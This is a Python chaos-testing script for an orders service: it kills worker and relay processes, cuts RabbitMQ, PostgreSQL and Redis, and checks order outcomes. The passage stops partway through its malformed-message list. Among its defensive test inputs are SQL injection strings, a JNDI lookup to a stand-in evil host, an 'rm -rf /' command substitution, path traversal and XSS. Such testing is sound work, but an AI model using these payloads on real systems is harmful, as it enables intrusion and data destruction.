#!/usr/bin/env python3
"""Chaos run: a mixed load through the real stack while processes die and dependencies go away.

Starts its own world — database ``orders_chaos``, RabbitMQ vhost
``orders-chaos``, the Stripe and PayPal fakes failing 20 % of calls (5xx,
answers later than the client timeout, dropped connections), the worker pool
(``orders worker --processes 2``), two relays (active + standby) and the HTTP
shim — and drives ``--orders`` orders through it: Stripe cards that pay, need
3-D Secure (confirmed at the fake, then a signed webhook delivered three times
through the shim) or are declined; PayPal orders (approved at the fake, then a
signed ``CHECKOUT.ORDER.APPROVED`` webhook, three times); cancels by the owner
(some before their PlaceOrder), payment confirmations before their PlaceOrder;
a share placed through ``POST /orders`` with a JWT and the rest published to
RabbitMQ; every command twice; and malformed or hostile messages on the
command queues.

Meanwhile, on a schedule drawn from ``--seed``, it SIGKILLs worker processes
(the supervisor restarts them) and the active relay (the standby takes over,
the script restarts the killed one), takes RabbitMQ and PostgreSQL away once
each and stops Redis for a while.  By default the service reaches RabbitMQ and
PostgreSQL through loopback TCP proxies the script cuts (the machine's shared
servers are never touched) and uses a private ``redis-server`` it stops;
``--real-restarts`` restarts the machine's RabbitMQ, PostgreSQL and Redis.

Then it waits for quiescence and checks the outcome from PostgreSQL, the
events captured on a queue bound to ``inventory`` and ``orders.events``, the
dead-letter queue and the fakes' own records; prints what was injected and
what was checked, and exits 1 on any violation (2 when the run could not be
carried out, e.g. no quiescence before the deadline).  Every process it
started is stopped on the way out, whatever happens.

Usage::

    .venv/bin/python scripts/chaos.py --seed 7 --orders 10000
    .venv/bin/python scripts/chaos.py --seed 7 --orders 2000 --json
    sudo -E .venv/bin/python scripts/chaos.py --seed 7 --real-restarts   # restarts the machine's servers
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import fcntl
import hashlib
import heapq
import hmac
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pika
import pika.exceptions
import psycopg2
import redis

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from schema.messages import ORDER_ID_NAMESPACE, InvalidMessage, uuid5
from worker.broker import (
    COMMAND_QUEUES,
    COMMANDS_EXCHANGE,
    DEAD_LETTER_QUEUE,
    EVENTS_EXCHANGE,
    INVENTORY_EXCHANGE,
    PAYMENTS_QUEUE,
    Delivery,
    delay_queue,
)
from scripts.tcp_proxy import TcpProxy, free_port
from worker.processing import decode
from worker.settings import load_settings
from worker.shim.auth import issue_token
from worker.shim.idempotency import derived_id
from worker.shim.webhook import sign_internal

ORDERS_CLI = str(Path(sys.executable).parent / "orders")
CATALOGUE = ROOT / "config" / "products.demo.json"
FAKES = ROOT / "scripts" / "fakes"
CAPTURE_QUEUE = "chaos.capture"
JWT_SECRET = "chaos-run-jwt-secret-of-at-least-32-bytes"
HMAC_SECRET = "chaos-run-internal-webhook-secret"
PAYPAL_CERT_NAME = "chaos-signing-cert.pem"
HZ = os.sysconf("SC_CLK_TCK")
#: the supervisor counts a child dying sooner than this after its start as a crash loop
MIN_CHILD_AGE = 6.0
#: payment-provider client timeout; injected delays are longer, so they time out
CLIENT_TIMEOUT = 2.0
#: seconds between the end of one injection and the start of the next, at least
MIN_GAP = 2.0
INJECTED_DELAY = 3.0
#: Stripe test card per kind of order
CARDS = {"visa": "pm_card_visa", "declined": "pm_card_chargeDeclined", "3ds": "pm_card_threeDSecure2Required",
         "3ds_fail": "pm_card_threeDSecure2Required", "internal_early": "pm_card_threeDSecure2Required"}
#: share of each kind of order (the rest: visa)
KINDS = {"declined": 0.07, "3ds": 0.10, "3ds_fail": 0.02, "paypal": 0.12, "paypal_decline": 0.02,
         "unknown_product": 0.02, "internal_early": 0.03}
#: user ids a shop may really send: stored verbatim, never interpreted
HOSTILE_USERS = ["x'; DROP TABLE orders; --", "Robert'); DELETE FROM inbox; --", "1 OR 1=1",
                 "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "用户-🙂-ünïcødé",
                 "$(rm -rf /)", "%s%s%s%n", "../../etc/passwd", "' UNION SELECT * FROM payments --"]


class ChaosError(Exception):
    """The run cannot be carried out (setup failed, no quiescence, deadline)."""


def say(*args: Any) -> None:
    print(f"[chaos {time.strftime('%H:%M:%S')}]", *args, file=sys.stderr, flush=True)


# -- configuration -------------------------------------------------------------------


@dataclass
class ChaosConfig:
    seed: int = 1
    orders: int = 10_000
    #: restart the machine's RabbitMQ, PostgreSQL and Redis instead of cutting proxies
    real_restarts: bool = False
    database: str = "orders_chaos"
    vhost: str = "orders-chaos"
    #: orders offered per second (the load window is orders / rate)
    rate: float = 60.0
    malformed: int = 1000
    worker_kills: int = 20
    relay_kills: int = 5
    processes: int = 2
    fault_rate: float = 0.20
    rabbit_outage_s: float = 8.0
    postgres_outage_s: float = 8.0
    redis_outage_s: float = 15.0
    shim_share: float = 0.15
    cancel_share: float = 0.12
    retry_delays: tuple[int, ...] = (1, 3, 10, 30)
    payment_concurrency: int = 16
    #: seconds allowed for reaching quiescence after the load
    quiesce_timeout: float = 900.0
    #: seconds allowed for the whole run
    timeout: float = 3600.0
    #: drop the database and the vhost at the end (the test suite does)
    drop_after: bool = False
    keep_logs: bool = False

    @classmethod
    def short(cls, **overrides: Any) -> ChaosConfig:
        """The test suite's variant: about 1,000 orders and a few kills."""
        values: dict[str, Any] = {"orders": 1000, "rate": 30.0, "malformed": 100, "worker_kills": 4,
                                  "relay_kills": 2, "rabbit_outage_s": 5.0, "postgres_outage_s": 5.0,
                                  "redis_outage_s": 8.0, "quiesce_timeout": 240.0, "timeout": 600.0}
        values.update(overrides)
        return cls(**values)

    @property
    def window(self) -> float:
        return max(20.0, self.orders / self.rate)


# -- processes and dependencies --------------------------------------------------------


def process_age(pid: int) -> float:
    """Seconds since the process started (inf when unknown)."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            start = int(f.read().rsplit(")", 1)[1].split()[19])
        with open("/proc/uptime") as f:
            uptime = float(f.read().split()[0])
        return uptime - start / HZ
    except (OSError, IndexError, ValueError):
        return float("inf")


class Proc:
    """A process the run started (own session, so the whole group can be killed)."""

    def __init__(self, name: str, argv: list[str], env: dict[str, str], log: Path) -> None:
        self.name, self.argv, self.env, self.log = name, argv, env, log
        self.popen: subprocess.Popen[bytes] | None = None
        self.starts = 0
        self.offset = 0
        self.start()

    def start(self) -> None:
        self.offset = self.log.stat().st_size if self.log.exists() else 0
        self.popen = subprocess.Popen(self.argv, env=self.env, stdout=self.log.open("ab"), stderr=subprocess.STDOUT,
                                      stdin=subprocess.DEVNULL, start_new_session=True)
        self.starts += 1

    @property
    def pid(self) -> int:
        assert self.popen is not None
        return self.popen.pid

    def alive(self) -> bool:
        return self.popen is not None and self.popen.poll() is None

    def children(self) -> list[int]:
        out = subprocess.run(["pgrep", "-P", str(self.pid)], capture_output=True, text=True, check=False).stdout
        kids = []
        for p in out.split():
            try:
                cmdline = Path(f"/proc/{p}/cmdline").read_bytes()
            except OSError:
                continue
            if b"worker [" in cmdline or b"orders" in cmdline:
                kids.append(int(p))
        return kids

    def kill(self) -> None:
        """SIGKILL (the injection): the process dies at whatever instruction it was."""
        if self.alive():
            os.kill(self.pid, signal.SIGKILL)
            assert self.popen is not None
            self.popen.wait(10)

    def stop(self, timeout: float = 20) -> None:
        if self.popen is None:
            return
        if self.popen.poll() is None:
            try:
                self.popen.send_signal(signal.SIGTERM)
                self.popen.wait(timeout)
            except subprocess.TimeoutExpired:
                say(f"{self.name} did not stop within {timeout:.0f}s: killing it")
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(self.pid, signal.SIGKILL)  # no orphans (pool children included)
        with contextlib.suppress(subprocess.TimeoutExpired):
            self.popen.wait(5)

    def log_events(self, current_only: bool = False) -> list[dict[str, Any]]:
        """The JSON log lines (of the running incarnation only, with ``current_only``)."""
        events: list[dict[str, Any]] = []
        try:
            with self.log.open("rb") as f:
                if current_only:
                    f.seek(self.offset)
                text = f.read().decode(errors="replace")
        except OSError:
            return events
        for line in text.splitlines():
            if line.startswith("{"):
                with contextlib.suppress(ValueError):
                    events.append(json.loads(line))
        return events


class ProxyProcess:
    """Loopback TCP proxies in a child process (``chaos.py _proxy``), cut and restored on command.

    A separate process keeps the forwarding off this process's GIL.  Its
    stdin is the control channel; when the run dies, stdin closes and the
    proxies go with it.
    """

    def __init__(self, targets: dict[str, int], log: Path) -> None:
        argv = [sys.executable, str(Path(__file__).resolve()), "_proxy", *(f"{k}={v}" for k, v in targets.items())]
        self.popen = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=log.open("ab"),
                                      text=True, start_new_session=True)
        assert self.popen.stdout is not None
        line = self.popen.stdout.readline()
        if not line:
            raise ChaosError(f"the TCP proxy process did not start (see {log})")
        self.ports: dict[str, int] = json.loads(line)
        self._lock = threading.Lock()

    def _command(self, line: str) -> None:
        with self._lock:
            assert self.popen.stdin is not None and self.popen.stdout is not None
            self.popen.stdin.write(line + "\n")
            self.popen.stdin.flush()
            if self.popen.stdout.readline().strip() != "ok":
                raise ChaosError(f"proxy command {line!r} failed")

    def down(self, name: str) -> None:
        self._command(f"down {name}")

    def up(self, name: str) -> None:
        self._command(f"up {name}")

    def stop(self) -> None:
        with contextlib.suppress(OSError, ValueError):
            assert self.popen.stdin is not None
            self.popen.stdin.close()
        try:
            self.popen.wait(5)
        except subprocess.TimeoutExpired:
            self.popen.kill()
            self.popen.wait(5)


def _proxy_main(specs: list[str]) -> int:
    proxies = {}
    for spec in specs:
        name, _, port = spec.partition("=")
        proxies[name] = TcpProxy(int(port))
    print(json.dumps({n: p.port for n, p in proxies.items()}), flush=True)
    for line in sys.stdin:
        verb, _, name = line.strip().partition(" ")
        if verb == "down":
            proxies[name].down()
        elif verb == "up":
            proxies[name].up()
        print("ok", flush=True)
    for p in proxies.values():
        p.down()
    return 0


class PrivateRedis:
    """A redis-server of the run's own, on a free port, that can be stopped and started again."""

    def __init__(self, log: Path) -> None:
        self.port = free_port()
        self.log = log
        self.popen: subprocess.Popen[bytes] | None = None
        self.start()

    def start(self) -> None:
        self.popen = subprocess.Popen(["redis-server", "--port", str(self.port), "--bind", "127.0.0.1", "--save", "",
                                       "--appendonly", "no"], stdout=self.log.open("ab"), stderr=subprocess.STDOUT,
                                      start_new_session=True)
        client = redis.Redis(port=self.port, socket_timeout=1)
        deadline = time.monotonic() + 10
        while True:
            try:
                client.ping()
                return
            except redis.RedisError:
                if time.monotonic() > deadline:
                    raise ChaosError("private redis-server did not start") from None
                time.sleep(0.1)

    def stop(self) -> None:
        if self.popen is not None and self.popen.poll() is None:
            self.popen.kill()
            self.popen.wait(10)


def _run(argv: list[str], timeout: float = 120, check: bool = True) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, check=False)
    if check and done.returncode != 0:
        raise ChaosError(f"{' '.join(argv)} failed ({done.returncode}): {(done.stderr or done.stdout).strip()[-1500:]}")
    return done


class RealServices:
    """``--real-restarts``: the machine's own servers, restarted as an operator would."""

    def rabbit_stop(self) -> None:
        _run(["rabbitmqctl", "stop_app"])

    def rabbit_start(self) -> None:
        _run(["rabbitmqctl", "start_app"])

    def postgres_restart(self) -> None:
        versions = sorted(os.listdir("/etc/postgresql"))
        _run(["pg_ctlcluster", "--skip-systemctl-redirect", versions[-1], "main", "restart"])

    def redis_stop(self) -> None:
        _run(["redis-cli", "shutdown", "nosave"], check=False)

    def redis_start(self) -> None:
        _run(["redis-server", "--daemonize", "yes", "--bind", "127.0.0.1", "--port", "6379", "--save", "",
              "--appendonly", "no"])


# -- the stack ------------------------------------------------------------------------------


class Stack:
    """Database, vhost, fakes, Redis, proxies and the service's processes of one run."""

    def __init__(self, cfg: ChaosConfig, tmp: Path) -> None:
        self.cfg, self.tmp = cfg, tmp
        self.procs: list[Proc] = []
        self.fakes: dict[str, Proc] = {}
        self.fake_urls: dict[str, str] = {}
        self.proxy: ProxyProcess | None = None
        self.redis: PrivateRedis | None = None
        self.real = RealServices() if cfg.real_restarts else None
        self.outage: str | None = None  # the dependency currently away (restored on exit)
        base = load_settings(environ={k: v for k, v in os.environ.items()
                                      if not k.startswith(("ORDERS_DATABASE__DBNAME", "ORDERS_RABBITMQ__URL"))})
        self.base = base
        url = urlsplit(base.rabbitmq.url.get_secret_value())
        self.amqp_host, self.amqp_port = url.hostname or "127.0.0.1", url.port or 5672
        self.amqp_auth = url.netloc.rsplit("@", 1)[0] if "@" in url.netloc else "guest:guest"
        self.pg_host, self.pg_port = base.database.host, base.database.port
        self.redis_port = 6379
        self.shim_port = 0
        self.pool: Proc | None = None
        self.relays: list[Proc] = []
        self.shim: Proc | None = None

    # urls and environments

    def amqp_url(self, port: int | None = None) -> str:
        return f"amqp://{self.amqp_auth}@{self.amqp_host}:{port or self.amqp_port}/{quote(self.cfg.vhost, safe='')}"

    def env(self, direct: bool = False) -> dict[str, str]:
        """The service's environment; ``direct`` bypasses the proxies (the script's own tools)."""
        proxied = self.proxy is not None and not direct
        env = {k: v for k, v in os.environ.items() if not k.startswith("ORDERS_")}
        if "ORDERS_CONFIG" in os.environ:
            env["ORDERS_CONFIG"] = os.environ["ORDERS_CONFIG"]
        for key in ("ORDERS_DATABASE__HOST", "ORDERS_DATABASE__USER", "ORDERS_DATABASE__PASSWORD"):
            if key in os.environ:
                env[key] = os.environ[key]
        env.update({
            "ORDERS_DATABASE__DBNAME": self.cfg.database,
            "ORDERS_DATABASE__PORT": str(self.proxy.ports["postgres"] if proxied and self.proxy else self.pg_port),
            "ORDERS_RABBITMQ__URL": self.amqp_url(self.proxy.ports["rabbitmq"] if proxied and self.proxy else None),
            "ORDERS_REDIS__HOST": "127.0.0.1",
            "ORDERS_REDIS__PORT": str(self.redis_port),
            "ORDERS_STRIPE__API_BASE": self.fake_urls.get("stripe", ""),
            "ORDERS_STRIPE__TIMEOUT_SECONDS": str(CLIENT_TIMEOUT),
            "ORDERS_STRIPE__MAX_NETWORK_RETRIES": "2",
            "ORDERS_PAYPAL__BASE_URL": self.fake_urls.get("paypal", ""),
            "ORDERS_PAYPAL__TIMEOUT_SECONDS": str(CLIENT_TIMEOUT),
            "ORDERS_PAYPAL__MAX_NETWORK_RETRIES": "2",
            "ORDERS_PAYPAL__VERIFICATION": "offline",
            "ORDERS_WORKER__RETRY_DELAYS_SECONDS": json.dumps(list(self.cfg.retry_delays)),
            "ORDERS_WORKER__PAYMENT_CONCURRENCY": str(self.cfg.payment_concurrency),
            "ORDERS_WORKER__LIVENESS_FILE": str(self.tmp / "alive"),
            "ORDERS_WORKER__SHUTDOWN_TIMEOUT_SECONDS": "10",
            "ORDERS_SHIM__JWT_SECRET": JWT_SECRET,
            "ORDERS_SHIM__WEBHOOK_HMAC_SECRET": HMAC_SECRET,
            "ORDERS_SHIM__PLACE_RATE_PER_MINUTE": "1000000",
            "ORDERS_SHIM__READ_RATE_PER_MINUTE": "1000000",
            "ORDERS_SHIM__PLACE_RATE_PER_MINUTE_PER_ADDRESS": "1000000",
            "ORDERS_SHIM__READ_RATE_PER_MINUTE_PER_ADDRESS": "1000000",
            "ORDERS_METRICS__PORT": "0",
            "ORDERS_LOGGING__FORMAT": "json",
            "ORDERS_LOGGING__LEVEL": "INFO",
        })
        return env

    def settings(self, direct: bool = True) -> Any:
        return load_settings(environ=self.env(direct))

    def direct_dsn(self) -> str:
        return self.settings(direct=True).database.dsn

    def cli(self, *args: str, timeout: float = 180, check: bool = True) -> subprocess.CompletedProcess[str]:
        done = subprocess.run([ORDERS_CLI, *args], env=self.env(direct=True), capture_output=True, text=True,
                              timeout=timeout, check=False)
        if check and done.returncode != 0:
            raise ChaosError(f"orders {' '.join(args)} failed ({done.returncode}): {done.stderr.strip()[-1500:]}")
        return done

    # set up

    def prepare(self) -> None:
        self._vhost()
        self._fakes()
        if self.cfg.real_restarts:
            self.redis_port = 6379
        else:
            self.redis = PrivateRedis(self.tmp / "redis.log")
            self.redis_port = self.redis.port
            self.proxy = ProxyProcess({"postgres": self.pg_port, "rabbitmq": self.amqp_port}, self.tmp / "proxy.log")
        self._database()
        self.cli("topology")
        self.cli("products", "import", str(CATALOGUE))
        self._capture_queue()

    def _vhost(self) -> None:
        if shutil.which("rabbitmqctl") is None:
            raise ChaosError("rabbitmqctl is needed to create the run's own vhost")
        _run(["rabbitmqctl", "delete_vhost", self.cfg.vhost], check=False)  # a clean slate
        _run(["rabbitmqctl", "add_vhost", self.cfg.vhost])
        _run(["rabbitmqctl", "set_permissions", "-p", self.cfg.vhost, self.amqp_auth.split(":")[0], ".*", ".*", ".*"])

    def _database(self) -> None:
        admin = psycopg2.connect(self.direct_dsn().replace(f"dbname={self.cfg.database}", "dbname=postgres"),
                                 connect_timeout=5)
        admin.autocommit = True
        with admin.cursor() as cur:
            cur.execute(f'DROP DATABASE IF EXISTS "{self.cfg.database}" WITH (FORCE)')
        admin.close()
        self.cli("migrate")

    def _fakes(self) -> None:
        for name, module in (("stripe", "fake_stripe.py"), ("paypal", "fake_paypal.py")):
            port = free_port()
            proc = Proc(f"fake-{name}", [sys.executable, str(FAKES / module), "--port", str(port)], dict(os.environ),
                        self.tmp / f"fake-{name}.log")
            self.fakes[name] = proc
            url = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + 15
            while True:
                try:
                    httpx.get(url + "/_fake/charges", timeout=1).raise_for_status()
                    break
                except httpx.HTTPError:
                    if time.monotonic() > deadline or not proc.alive():
                        raise ChaosError(f"the {name} fake did not start (see {proc.log})") from None
                    time.sleep(0.1)
            self.fake_urls[name] = url

    def faults_on(self, seed: int) -> dict[str, Any]:
        """20 % of the fakes' API calls fail: 5xx, answers later than the client timeout, dropped connections."""
        r = self.cfg.fault_rate
        # three independent draws in a row; rates chosen so that together they fail `r` of the calls
        status, drop, delay = r * 0.5, r * 0.3, r * 0.2
        drop_rate = drop / (1 - status)
        delay_rate = delay / ((1 - status) * (1 - drop_rate))
        specs = [{"rate": status, "seed": seed, "status": 503},
                 {"rate": drop_rate, "seed": seed + 1, "drop": True},
                 {"rate": delay_rate, "seed": seed + 2, "delay": INJECTED_DELAY}]
        for url in self.fake_urls.values():
            for spec in specs:
                httpx.post(url + "/_fake/faults", json=spec, timeout=5).raise_for_status()
        return {"5xx": status, "dropped connection": drop, f"{INJECTED_DELAY:.0f}s delay (client timeout "
                f"{CLIENT_TIMEOUT:.0f}s)": delay}

    def faults_off(self) -> None:
        for url in self.fake_urls.values():
            with contextlib.suppress(httpx.HTTPError):
                httpx.delete(url + "/_fake/faults", timeout=5)

    def _capture_queue(self) -> None:
        conn = pika.BlockingConnection(pika.URLParameters(self.amqp_url()))
        ch = conn.channel()
        ch.queue_declare(CAPTURE_QUEUE, durable=True, arguments={"x-queue-type": "quorum"})
        ch.queue_bind(CAPTURE_QUEUE, INVENTORY_EXCHANGE, routing_key="#")
        ch.queue_bind(CAPTURE_QUEUE, EVENTS_EXCHANGE, routing_key="#")
        conn.close()

    def start_service(self) -> None:
        env = self.env()
        self.pool = Proc("worker pool", [ORDERS_CLI, "worker", "--processes", str(self.cfg.processes)], env,
                         self.tmp / "worker.log")
        self.procs.append(self.pool)
        for name in ("relay-a", "relay-b"):
            relay = Proc(name, [ORDERS_CLI, "relay"], env, self.tmp / f"{name}.log")
            self.relays.append(relay)
            self.procs.append(relay)
            time.sleep(1.0)  # relay-a becomes the active one
        self.shim_port = free_port()
        self.shim = Proc("shim", [ORDERS_CLI, "shim", "--port", str(self.shim_port)], env, self.tmp / "shim.log")
        self.procs.append(self.shim)
        deadline = time.monotonic() + 60
        while True:
            try:
                if httpx.get(self.shim_url + "/readyz", timeout=2).status_code == 200 \
                        and len(self.pool.children()) == self.cfg.processes:
                    break
            except httpx.HTTPError:
                pass
            for p in self.procs:
                if not p.alive():
                    raise ChaosError(f"{p.name} exited at start: {p.log.read_text(errors='replace')[-1500:]}")
            if time.monotonic() > deadline:
                raise ChaosError("the service did not become ready within 60 s")
            time.sleep(0.3)

    @property
    def shim_url(self) -> str:
        return f"http://127.0.0.1:{self.shim_port}"

    def active_relay(self) -> Proc | None:
        """The relay whose last state line says it is active (and that is alive)."""
        for relay in self.relays:
            if not relay.alive():
                continue
            state = None
            for e in relay.log_events(current_only=True):
                ev = e.get("event", "")
                if ev == "relay active":
                    state = "active"
                elif ev.startswith(("another relay is active", "relay lost", "relay failed")):
                    state = "other"
            if state == "active":
                return relay
        return None

    # dependencies away and back

    def rabbit_down(self) -> None:
        self.outage = "rabbitmq"
        if self.real:
            self.real.rabbit_stop()
        else:
            assert self.proxy is not None
            self.proxy.down("rabbitmq")

    def rabbit_up(self) -> None:
        if self.real:
            self.real.rabbit_start()
        else:
            assert self.proxy is not None
            self.proxy.up("rabbitmq")
        self.outage = None

    def postgres_down(self) -> None:
        self.outage = "postgres"
        if self.real:
            self.real.postgres_restart()  # a restart: down and up in one
        else:
            assert self.proxy is not None
            self.proxy.down("postgres")

    def postgres_up(self) -> None:
        if not self.real:
            assert self.proxy is not None
            self.proxy.up("postgres")
        self.outage = None

    def redis_down(self) -> None:
        self.outage = "redis"
        if self.real:
            self.real.redis_stop()
        else:
            assert self.redis is not None
            self.redis.stop()

    def redis_up(self) -> None:
        if self.real:
            self.real.redis_start()
        else:
            assert self.redis is not None
            self.redis.start()
        self.outage = None

    def restore(self) -> None:
        """Bring back whatever dependency an interrupted injection left away."""
        outage, self.outage = self.outage, None
        with contextlib.suppress(Exception):
            if outage == "rabbitmq":
                self.rabbit_up()
            elif outage == "postgres":
                self.postgres_up()
            elif outage == "redis":
                self.redis_up()

    def stop(self) -> None:
        for p in reversed(self.procs):
            p.stop()
        self.restore()
        for p in self.fakes.values():
            p.stop(5)
        if self.proxy is not None:
            self.proxy.stop()
        if self.redis is not None:
            self.redis.stop()

    def drop(self) -> None:
        with contextlib.suppress(Exception):
            admin = psycopg2.connect(self.direct_dsn().replace(f"dbname={self.cfg.database}", "dbname=postgres"),
                                     connect_timeout=5)
            admin.autocommit = True
            with admin.cursor() as cur:
                cur.execute(f'DROP DATABASE IF EXISTS "{self.cfg.database}" WITH (FORCE)')
            admin.close()
        with contextlib.suppress(Exception):
            _run(["rabbitmqctl", "delete_vhost", self.cfg.vhost], check=False)


# -- the plan ---------------------------------------------------------------------------------


@dataclass
class PlannedOrder:
    index: int
    order_id: str
    user: str
    kind: str
    channel: str  # bus | shim
    items: list[dict[str, Any]]
    total: int
    place_mid: str
    explicit_id: bool
    cancel: str | None  # None | before | after | shim | race (sent by the buyer right after paying)
    at: float

    @property
    def provider(self) -> str:
        return "paypal" if self.kind.startswith("paypal") else "stripe"

    def payment(self) -> dict[str, Any]:
        if self.provider == "paypal":
            return {"provider": "paypal", "return_url": "https://shop.example/paid",
                    "cancel_url": "https://shop.example/cancelled"}
        return {"provider": "stripe", "payment_method": CARDS.get(self.kind, "pm_card_visa")}

    def place_body(self) -> dict[str, Any]:
        body: dict[str, Any] = {"user_id": self.user, "items": self.items, "payment": self.payment()}
        if self.explicit_id:
            body["order_id"] = self.order_id
        return body

    def cancel_body(self) -> dict[str, Any]:
        return {"order_id": self.order_id, "requested_by": {"user_id": self.user, "roles": ["user"]},
                "reason": "changed my mind (chaos run)"}


@dataclass
class Malformed:
    index: int
    category: str
    routing_key: str
    message_type: str | None
    message_id: str | None
    body: bytes
    content_type: str | None = "application/json"
    at: float = 0.0


def load_products() -> list[dict[str, Any]]:
    products = json.loads(CATALOGUE.read_text(encoding="utf-8"))
    usable = [p for p in products if p.get("active", True) and p["currency"] == "USD"]
    if len(usable) < 3:
        raise ChaosError(f"{CATALOGUE} has fewer than three active USD products")
    return usable


def plan_orders(cfg: ChaosConfig, products: list[dict[str, Any]]) -> list[PlannedOrder]:
    rnd = random.Random(f"orders-{cfg.seed}")
    prices = {p["product_id"]: p["price"] for p in products}
    orders = []
    window = cfg.window
    for i in range(cfg.orders):
        draw, kind = rnd.random(), "visa"
        for name, share in KINDS.items():
            if draw < share:
                kind = name
                break
            draw -= share
        picks = rnd.sample(products, rnd.randint(1, 3))
        items = [{"product_id": p["product_id"], "quantity": rnd.randint(1, 4)} for p in picks]
        if kind == "unknown_product":
            items.append({"product_id": f"sku-missing-{i}", "quantity": 1})
        total = sum(it["quantity"] * prices.get(it["product_id"], 0) for it in items)
        hostile = kind in ("visa", "declined") and rnd.random() < 0.01
        user = rnd.choice(HOSTILE_USERS) if hostile else f"user-{rnd.randint(1, 500)}"
        channel = "shim" if not hostile and rnd.random() < cfg.shim_share else "bus"
        explicit = channel == "shim" or rnd.random() < 0.7
        oid = str(uuid.UUID(int=rnd.getrandbits(128), version=4))
        place_mid = f"chaos-{cfg.seed}-place-{i}"
        if not explicit:
            oid = uuid5(ORDER_ID_NAMESPACE, place_mid)
        if channel == "shim":
            place_mid = f"http-place-{oid}"
        cancel = None
        if kind in ("3ds", "paypal") and rnd.random() < 0.3:
            cancel = "race"  # the buyer pays and cancels at once: refunds, cancelled intents
        elif kind == "internal_early" and rnd.random() < 0.4:
            cancel = "before"  # cancel and payment confirmation both before the PlaceOrder
        elif kind != "internal_early" and rnd.random() < cfg.cancel_share:
            c = rnd.random()
            cancel = "before" if c < 0.35 else ("shim" if c < 0.5 and channel == "shim" else "after")
        at = window * i / cfg.orders + rnd.uniform(0, window / cfg.orders)
        orders.append(PlannedOrder(i, oid, user, kind, channel, items, total, place_mid, explicit, cancel, at))
    return orders


def _valid_place(rnd: random.Random) -> dict[str, Any]:
    return {"order_id": str(uuid.UUID(int=rnd.getrandbits(128), version=4)), "user_id": "mallory",
            "items": [{"product_id": "sku-mug-001", "quantity": 1}],
            "payment": {"provider": "stripe", "payment_method": "pm_card_visa"}}


def plan_malformed(cfg: ChaosConfig, orders: list[PlannedOrder]) -> list[Malformed]:
    """Messages a worker must dead-letter with a reason (never crash on, never apply)."""
    rnd = random.Random(f"malformed-{cfg.seed}")
    real_ids = [o.order_id for o in orders] or [str(uuid.uuid4())]
    keys = {"PlaceOrder": "order.place", "CancelOrder": "order.cancel", "PaymentConfirmed": "payment.confirmed"}

    def place(**changes: Any) -> bytes:
        body = _valid_place(rnd)
        body.update(changes)
        return json.dumps({k: v for k, v in body.items() if v is not ...}).encode()

    def cancel(**changes: Any) -> bytes:
        body: dict[str, Any] = {"order_id": rnd.choice(real_ids), "requested_by": {"user_id": "mallory", "roles": ["user"]}}
        body.update(changes)
        return json.dumps(body).encode()

    def confirmed(**changes: Any) -> bytes:
        body: dict[str, Any] = {"order_id": rnd.choice(real_ids), "provider": "stripe", "payment_id": "pi_forged",
                                "amount": 100, "currency": "USD", "event_id": f"evt_forged_{rnd.getrandbits(32)}"}
        body.update(changes)
        return json.dumps(body).encode()

    makers: list[tuple[str, Callable[[], tuple[str | None, bytes, dict[str, Any]]]]] = [
        ("bad JSON", lambda: (rnd.choice(list(keys)), rnd.choice([
            b'{"user_id": "u1", "items": [', b"\xff\xfe\x00garbage\x00", b"", b'{"a": 1}{"b": 2}',
            b"{'single': 'quotes'}", b"NaN", b'{"order_id": "' + b"\\" * 3 + b'"}']), {})),
        ("not an object", lambda: (rnd.choice(list(keys)), rnd.choice([b"null", b"[]", b'"text"', b"42", b"true"]), {})),
        ("unknown type", lambda: (rnd.choice(["DropTables", "placeorder", "", "StartPayment", "RefundPayment",
                                              "CapturePayment", "CancelPayment"]),
                                  json.dumps({"order_id": rnd.choice(real_ids)}).encode(), {})),
        ("missing type", lambda: (None, place(), {})),
        ("missing message_id", lambda: ("PlaceOrder", place(), {"message_id": None})),
        # (AMQP caps the property at 255 bytes; the contract at 200)
        ("message_id too long", lambda: ("PlaceOrder", place(), {"message_id": "m" * rnd.randint(201, 255)})),
        ("wrong types", lambda: rnd.choice([
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": "2"}]), {}),
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 2.5}]), {}),
            ("PlaceOrder", place(items={"product_id": "sku-mug-001", "quantity": 1}), {}),
            ("PlaceOrder", place(user_id=12345), {}),
            ("PlaceOrder", place(order_id=12345), {}),
            ("PlaceOrder", place(payment="stripe"), {}),
            ("PlaceOrder", place(user_id=None), {}),
            ("CancelOrder", cancel(requested_by="admin"), {}),
            ("CancelOrder", cancel(requested_by={"user_id": "mallory", "roles": "admin"}), {}),
            ("PaymentConfirmed", confirmed(amount="100"), {}),
            ("PaymentConfirmed", confirmed(amount=1.5), {}),
        ])),
        ("SQL injection", lambda: rnd.choice([
            ("PlaceOrder", place(items=[{"product_id": "sku'; DROP TABLE orders;--", "quantity": 1}]), {}),
            ("PlaceOrder", place(order_id="1' OR '1'='1"), {}),
            ("CancelOrder", cancel(order_id="'; DELETE FROM orders WHERE '1'='1"), {}),
            ("CancelOrder", cancel(requested_by={"user_id": "x", "roles": ["admin' OR 1=1 --"]}), {}),
            ("PaymentConfirmed", confirmed(currency="USD'; UPDATE payments SET status='refunded'; --"), {}),
            ("PaymentConfirmed", confirmed(provider="stripe' OR 'x'='x"), {}),
        ])),
        ("huge strings", lambda: rnd.choice([
            ("PlaceOrder", place(user_id="A" * 100_000), {}),
            ("PlaceOrder", place(items=[{"product_id": "p" * 70_000, "quantity": 1}]), {}),
            ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 1}] * 5000), {}),
            ("CancelOrder", cancel(reason="r" * 100_000), {}),
            ("PaymentConfirmed", confirmed(event_id="e" * 50_000), {}),
        ])),
        ("unknown fields", lambda: rnd.choice([
